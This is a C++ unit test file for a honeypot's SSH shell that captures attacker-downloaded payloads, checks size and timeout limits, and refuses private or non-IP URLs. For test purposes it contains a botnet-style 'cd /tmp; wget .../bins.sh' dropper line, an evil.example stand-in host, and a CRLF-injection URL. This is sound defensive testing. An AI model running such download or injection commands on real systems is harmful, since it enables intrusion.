// Operator-enabled payload capture against a real HTTP server on 127.0.0.1 (the test's own, on the
// decky's loop): what is stored, what is refused, and the bounds in bytes and time.
#include "decnet/services/shell/fetch.h"

#include <gtest/gtest.h>
#include <uv.h>

#include <fstream>
#include <memory>
#include <sstream>
#include <string>

#include "decnet/decoy/artifacts.h"
#include "decnet/decoy/testing.h"
#include "decnet/services/shell/shell.h"

namespace decnet::services::shell {
namespace {

using decoy::testing::ParamOf;
using decoy::testing::TestDecky;

// Answers every connection with `response` (then closes), or never answers when `response` is
// empty.
struct PayloadServer {
  PayloadServer(uv_loop_t* loop, std::string resp) : response(std::move(resp)) {
    uv_tcp_init(loop, &listener);
    listener.data = this;
    sockaddr_in addr;
    uv_ip4_addr("127.0.0.1", 0, &addr);
    uv_tcp_bind(&listener, reinterpret_cast<const sockaddr*>(&addr), 0);
    uv_listen(reinterpret_cast<uv_stream_t*>(&listener), 8, OnConnection);
    sockaddr_in bound;
    int len = sizeof bound;
    uv_tcp_getsockname(&listener, reinterpret_cast<sockaddr*>(&bound), &len);
    port = ntohs(bound.sin_port);
  }
  ~PayloadServer() {
    for (auto& c : clients) {
      auto* h = reinterpret_cast<uv_handle_t*>(c.get());
      if (!uv_is_closing(h)) uv_close(h, nullptr);
    }
    uv_close(reinterpret_cast<uv_handle_t*>(&listener), nullptr);
    // The handles are freed with this object: let the loop finish closing them first.
    uv_run(listener.loop, UV_RUN_NOWAIT);
  }
  static void OnConnection(uv_stream_t* s, int) {
    auto* self = static_cast<PayloadServer*>(s->data);
    auto client = std::make_unique<uv_tcp_t>();
    uv_tcp_init(s->loop, client.get());
    client->data = self;
    uv_accept(s, reinterpret_cast<uv_stream_t*>(client.get()));
    uv_read_start(
        reinterpret_cast<uv_stream_t*>(client.get()),
        [](uv_handle_t*, size_t, uv_buf_t* b) {
          static char buf[4096];
          *b = uv_buf_init(buf, sizeof buf);
        },
        OnRead);
    self->clients.push_back(std::move(client));
  }
  static void OnRead(uv_stream_t* s, ssize_t n, const uv_buf_t* b) {
    auto* self = static_cast<PayloadServer*>(s->data);
    if (n <= 0) return;
    self->request.append(b->base, static_cast<size_t>(n));
    if (self->request.find("\r\n\r\n") == std::string::npos || self->response.empty()) return;
    auto* w = new uv_write_t;
    uv_buf_t out = uv_buf_init(self->response.data(), static_cast<unsigned>(self->response.size()));
    uv_write(w, s, &out, 1, [](uv_write_t* req, int) {
      uv_close(reinterpret_cast<uv_handle_t*>(req->handle), nullptr);
      delete req;
    });
    uv_read_stop(s);
  }

  uv_tcp_t listener;
  std::string response, request;
  uint16_t port = 0;
  std::vector<std::unique_ptr<uv_tcp_t>> clients;
};

decoy::PersonaInputs Capture(std::map<std::string, std::string, std::less<>> extra = {}) {
  decoy::PersonaInputs in;
  in.settings["ssh"] = {{"fetch", "capture"}, {"fetch_allow_private", "true"}};
  for (auto& [k, v] : extra) in.settings["ssh"][k] = v;
  return in;
}

const FetchOrigin kOrigin{"ssh", {"203.0.113.7", 40123}, 22, 9};

std::string FetchAndWait(TestDecky& d, const std::string& url) {
  EXPECT_TRUE(StartPayloadFetch(*d.decky, kOrigin, url));
  d.RunUntil([&] { return !d.Events("file_download").empty(); }, 10000);
  auto ev = d.Events("file_download");
  EXPECT_EQ(ev.size(), 1u);
  d.RunUntil([] { return ActivePayloadFetches() == 0; }, 2000);
  return ev.empty() ? "" : ev[0];
}

std::string ReadFile(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  std::stringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

TEST(PayloadFetch, StoresTheBodyAsAnArtifactBySha256) {
  TestDecky d(Capture());
  const std::string body = "#!/bin/sh\ncd /tmp; wget http://203.0.113.9/bins.sh\n";
  PayloadServer server(&d.loop, "HTTP/1.1 200 OK\r\nContent-Length: " +
                                    std::to_string(body.size()) + "\r\n\r\n" + body);
  const std::string url = "http://127.0.0.1:" + std::to_string(server.port) + "/x.sh";
  const std::string ev = FetchAndWait(d, url);
  EXPECT_EQ(ParamOf(ev, "outcome"), "ok");
  EXPECT_EQ(ParamOf(ev, "url"), url);
  EXPECT_EQ(ParamOf(ev, "http_status"), "200");
  EXPECT_EQ(ParamOf(ev, "sha256"), decoy::Sha256Hex(body));
  EXPECT_EQ(ParamOf(ev, "size"), std::to_string(body.size()));
  EXPECT_EQ(ParamOf(ev, "session"), "9");
  EXPECT_EQ(ParamOf(ev, "src_ip"), "203.0.113.7");
  EXPECT_EQ(ReadFile(ParamOf(ev, "path")), body);
  // The request is wget's, with the path and the Host the URL named.
  EXPECT_EQ(server.request.rfind("GET /x.sh HTTP/1.1\r\n", 0), 0u) << server.request;
  EXPECT_NE(server.request.find("User-Agent: Wget/"), std::string::npos);
  EXPECT_NE(server.request.find("Host: 127.0.0.1:" + std::to_string(server.port) + "\r\n"),
            std::string::npos);
}

TEST(PayloadFetch, BodyIsCutAtTheByteBound) {
  TestDecky d(Capture({{"fetch_max_bytes", "1000"}}));
  PayloadServer server(&d.loop, "HTTP/1.0 200 OK\r\n\r\n" + std::string(5000, 'A'));
  const std::string ev =
      FetchAndWait(d, "http://127.0.0.1:" + std::to_string(server.port) + "/big");
  EXPECT_EQ(ParamOf(ev, "outcome"), "too_large");
  EXPECT_EQ(ParamOf(ev, "size"), "1000");
  EXPECT_EQ(ParamOf(ev, "sha256"), decoy::Sha256Hex(std::string(1000, 'A')));
}

TEST(PayloadFetch, ServerThatNeverAnswersTimesOut) {
  TestDecky d(Capture({{"fetch_timeout_ms", "200"}}));
  PayloadServer server(&d.loop, "");
  const std::string ev =
      FetchAndWait(d, "http://127.0.0.1:" + std::to_string(server.port) + "/slow");
  EXPECT_EQ(ParamOf(ev, "outcome"), "timeout");
  EXPECT_EQ(ParamOf(ev, "sha256"), "");
}

TEST(PayloadFetch, ErrorStatusAndGarbageAreReportedAsSuch) {
  {
    TestDecky d(Capture());
    PayloadServer server(&d.loop, "HTTP/1.1 404 Not Found\r\nContent-Length: 9\r\n\r\nnot found");
    const std::string ev = FetchAndWait(d, "http://127.0.0.1:" + std::to_string(server.port) + "/");
    EXPECT_EQ(ParamOf(ev, "outcome"), "http_error");
    EXPECT_EQ(ParamOf(ev, "http_status"), "404");
  }
  {
    TestDecky d(Capture());
    PayloadServer server(&d.loop, "SSH-2.0-OpenSSH_9.2\r\n\r\n");
    const std::string ev = FetchAndWait(d, "http://127.0.0.1:" + std::to_string(server.port) + "/");
    EXPECT_EQ(ParamOf(ev, "outcome"), "bad_response");
  }
}

TEST(PayloadFetch, ClosedPortIsAConnectFailure) {
  TestDecky d(Capture());
  uint16_t port;
  {
    PayloadServer gone(&d.loop, "x");
    port = gone.port;
  }
  d.RunUntil([] { return false; }, 50);  // let the listener close
  const std::string ev = FetchAndWait(d, "http://127.0.0.1:" + std::to_string(port) + "/");
  EXPECT_EQ(ParamOf(ev, "outcome"), "connect_failed");
}

TEST(PayloadFetch, OffByDefaultAndRefusalsAreLogged) {
  {
    TestDecky d;  // no settings: capture off, nothing logged, nothing started
    EXPECT_FALSE(StartPayloadFetch(*d.decky, kOrigin, "http://192.0.2.1/x"));
    EXPECT_TRUE(d.Events("file_download").empty());
  }
  decoy::PersonaInputs in;
  in.settings["ssh"] = {{"fetch", "capture"}};
  TestDecky d(in);
  EXPECT_FALSE(StartPayloadFetch(*d.decky, kOrigin, "http://127.0.0.1/x"));
  EXPECT_FALSE(StartPayloadFetch(*d.decky, kOrigin, "http://10.1.2.3:8080/x"));
  EXPECT_FALSE(StartPayloadFetch(*d.decky, kOrigin, "http://evil.example/x"));
  EXPECT_FALSE(StartPayloadFetch(*d.decky, kOrigin, "https://192.0.2.1/x"));
  auto ev = d.Events("file_download");
  ASSERT_EQ(ev.size(), 4u);
  EXPECT_EQ(ParamOf(ev[0], "outcome"), "refused_private");
  EXPECT_EQ(ParamOf(ev[1], "outcome"), "refused_private");
  EXPECT_EQ(ParamOf(ev[2], "outcome"), "refused_not_http_ip");
  EXPECT_EQ(ParamOf(ev[3], "outcome"), "refused_not_http_ip");
}

struct NullTerminal : Terminal {
  void Output(std::string_view bytes) override { out.append(bytes); }
  void Exit(int status) override { exit_status = status; }
  std::string out;
  int exit_status = -1;
};

TEST(PayloadFetch, WgetInTheShellCapturesWhileTheAttackerSeesItFail) {
  TestDecky d(Capture({{"pause_percent", "0"}}));
  const std::string body = "payload bytes\n";
  PayloadServer server(&d.loop, "HTTP/1.0 200 OK\r\n\r\n" + body);
  decoy::testing::FakeConnection conn(*d.decky, 22);
  NullTerminal term;
  ShellOptions opts;
  opts.service = "ssh";
  opts.user = "root";
  opts.interactive = false;
  auto shell = NewShell(conn, term, opts);
  const std::string url = "http://127.0.0.1:" + std::to_string(server.port) + "/x.sh";
  shell->Exec("cd /tmp; wget " + url);
  d.RunUntil([&] { return !d.Events("file_download").empty() && term.exit_status >= 0; }, 10000);
  ASSERT_EQ(d.Events("file_download_attempt").size(), 1u);
  const auto ev = d.Events("file_download");
  ASSERT_EQ(ev.size(), 1u);
  EXPECT_EQ(ParamOf(ev[0], "outcome"), "ok");
  EXPECT_EQ(ParamOf(ev[0], "sha256"), decoy::Sha256Hex(body));
  EXPECT_EQ(ParamOf(ev[0], "session"), std::to_string(conn.id()));
  EXPECT_NE(term.exit_status, 0);  // the attacker's wget still failed
  shell->Close();
  d.RunUntil([] { return ActivePayloadFetches() == 0; }, 2000);
}

TEST(PayloadFetch, UrlParsingAcceptsOnlyHttpToAnIpLiteral) {
  auto u = ParseFetchableUrl("HTTP://[2001:db8::5]:8080/a/b?c=d");
  ASSERT_TRUE(u);
  EXPECT_EQ(u->host, "2001:db8::5");
  EXPECT_EQ(u->port, 8080);
  EXPECT_EQ(u->path, "/a/b?c=d");
  EXPECT_EQ(ParseFetchableUrl("http://198.51.100.5")->path, "/");
  for (const char* bad : {"http://host.example/", "ftp://192.0.2.1/x", "http://192.0.2.1:0/",
                          "http://192.0.2.1:99999/", "http://user@192.0.2.1/", "http://[::1/",
                          "http://192.0.2.1/a b", "http://192.0.2.1/a\r\nX: y", "http://"}) {
    EXPECT_FALSE(ParseFetchableUrl(bad)) << bad;
  }
}

TEST(PayloadFetch, NonPublicAddresses) {
  for (const char* ip : {"127.0.0.1", "10.0.0.1", "172.16.5.5", "192.168.1.1", "169.254.169.254",
                         "100.64.0.1", "0.0.0.0", "224.0.0.1", "::1", "::", "fe80::1", "fd00::1",
                         "::ffff:10.0.0.1", "not-an-ip"}) {
    EXPECT_TRUE(IsNonPublicAddress(ip)) << ip;
  }
  for (const char* ip :
       {"8.8.8.8", "198.51.100.5", "172.32.0.1", "2001:db8::1", "::ffff:1.1.1.1"}) {
    EXPECT_FALSE(IsNonPublicAddress(ip)) << ip;
  }
}

}  // namespace
}  // namespace decnet::services::shell
